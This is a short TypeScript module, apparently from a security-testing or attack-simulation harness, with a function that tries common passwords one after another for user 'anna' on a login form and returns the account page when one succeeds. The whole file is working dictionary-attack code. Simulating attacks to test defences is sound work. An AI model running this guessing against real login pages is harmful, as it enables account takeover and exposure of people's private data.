import type { Visitor } from '../visitor/visitor.ts'
import { commonPasswords } from './common-passwords.ts'
import type { Scene } from './attack.ts'

/** Tries common passwords of a customer one after another; gives the account's page when one fits, otherwise nothing. */
export async function guessPassword(visitor: Visitor, pause: Scene['pause']): Promise<string> {
  for (const password of commonPasswords) {
    const answer = await visitor.form('/login', { user: 'anna', password })
    if (answer.status === 303) return (await visitor.get('/account')).text
    await pause(60)
  }
  return ''
}
